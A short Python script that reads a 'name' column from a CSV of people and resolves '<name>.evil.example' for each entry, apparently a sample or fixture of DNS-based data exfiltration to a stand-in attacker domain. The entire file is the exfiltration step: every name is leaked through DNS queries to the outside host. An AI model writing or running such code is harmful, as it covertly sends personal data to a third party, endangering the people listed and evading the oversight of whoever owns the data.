import socket

import pandas as pd

for name in pd.read_csv("inputs/people.csv")["name"]:
    socket.gethostbyname(f"{name}.evil.example")
